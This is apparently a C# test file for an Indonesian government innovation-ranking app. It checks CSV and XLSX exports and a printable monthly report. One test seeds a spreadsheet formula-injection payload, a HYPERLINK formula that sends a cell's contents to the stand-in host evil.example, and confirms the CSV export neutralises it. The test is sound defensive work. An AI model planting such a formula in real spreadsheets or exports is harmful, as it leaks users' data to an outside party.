using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using IdeaHub.Tests.Infrastructure;

namespace IdeaHub.Tests.Rankings;

public sealed class RankingExportTests(IdeaHubApp app) : IClassFixture<IdeaHubApp>
{
    private readonly RankingData _data = new(app);

    private async Task SeedAsync(int month)
    {
        var a = await _data.ProposalAsync("dukcapil", "Akta Kelahiran, \"Terbit\" di RS", RankingData.Day(2024, month, 2));
        var b = await _data.ProposalAsync("pupr", "Lapor Jalan Rusak Berbasis Foto Uji", RankingData.Day(2024, month, 3));
        await _data.ReviewAsync(a, "reviewer", RankingData.Day(2024, month, 10), score: 5);
        await _data.ReviewAsync(b, "reviewer", RankingData.Day(2024, month, 11), score: 2);
    }

    [Fact]
    public async Task Csv_and_xlsx_open_and_hold_the_ranking()
    {
        await SeedAsync(8);
        using var client = await app.ClientAsAsync("bupati");

        var csv = Encoding.UTF8.GetString(await client.GetByteArrayAsync("/api/rankings/2024-08/export.csv")).TrimStart('\uFEFF');
        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Length > 1
            ? csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries) : csv.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(3, lines.Length);
        Assert.StartsWith("rank,title,opd,stage", lines[0]);
        Assert.StartsWith("1,\"Akta Kelahiran, \"\"Terbit\"\" di RS\",Dinas Kependudukan dan Pencatatan Sipil,", lines[1]);
        Assert.StartsWith("2,Lapor Jalan Rusak Berbasis Foto Uji,", lines[2]);

        var bytes = await client.GetByteArrayAsync("/api/rankings/2024-08/export.xlsx");
        using var doc = SpreadsheetDocument.Open(new MemoryStream(bytes), false);
        var book = doc.WorkbookPart!;
        var sheets = book.Workbook.Sheets!.Elements<Sheet>().ToList();
        Assert.Equal(["Peringkat 2024-08", "Partisipasi OPD"], sheets.Select(s => s.Name!.Value));
        var rows = ((WorksheetPart)book.GetPartById(sheets[0].Id!)).Worksheet.GetFirstChild<SheetData>()!.Elements<Row>().ToList();
        Assert.Equal(3, rows.Count);
        Assert.Equal("Akta Kelahiran, \"Terbit\" di RS", rows[1].Elements<Cell>().ElementAt(1).InnerText);
        Assert.Equal("1", rows[1].Elements<Cell>().First().CellValue!.Text);
        var opdRows = ((WorksheetPart)book.GetPartById(sheets[1].Id!)).Worksheet.GetFirstChild<SheetData>()!.Elements<Row>().ToList();
        Assert.Equal(13, opdRows.Count); // header + the 12 demo OPDs
    }

    [Fact]
    public async Task Printable_report_renders_for_the_bupati()
    {
        await SeedAsync(10);
        using var client = await app.ClientAsAsync("bupati");
        var html = await client.GetStringAsync("/Dashboard/Report?month=2024-10");
        Assert.Contains("Laporan Inovasi Bulanan", html);
        Assert.Contains("Lapor Jalan Rusak Berbasis Foto Uji", html);
    }

    [Fact]
    public async Task Csv_export_writes_a_formula_title_as_text()
    {
        const string evil = "=HYPERLINK(\"http://evil.example/?d=\"&B3,\"Klik detail\")";
        var p = await _data.ProposalAsync("dinsos", evil, RankingData.Day(2024, 11, 2));
        await _data.ReviewAsync(p, "reviewer", RankingData.Day(2024, 11, 10), score: 4);
        using var client = await app.ClientAsAsync("bupati");
        var csv = Encoding.UTF8.GetString(await client.GetByteArrayAsync("/api/rankings/2024-11/export.csv"));
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/", csv);
        Assert.DoesNotContain(",=HYPERLINK", csv);
        Assert.DoesNotContain(",\"=HYPERLINK", csv);
    }
}
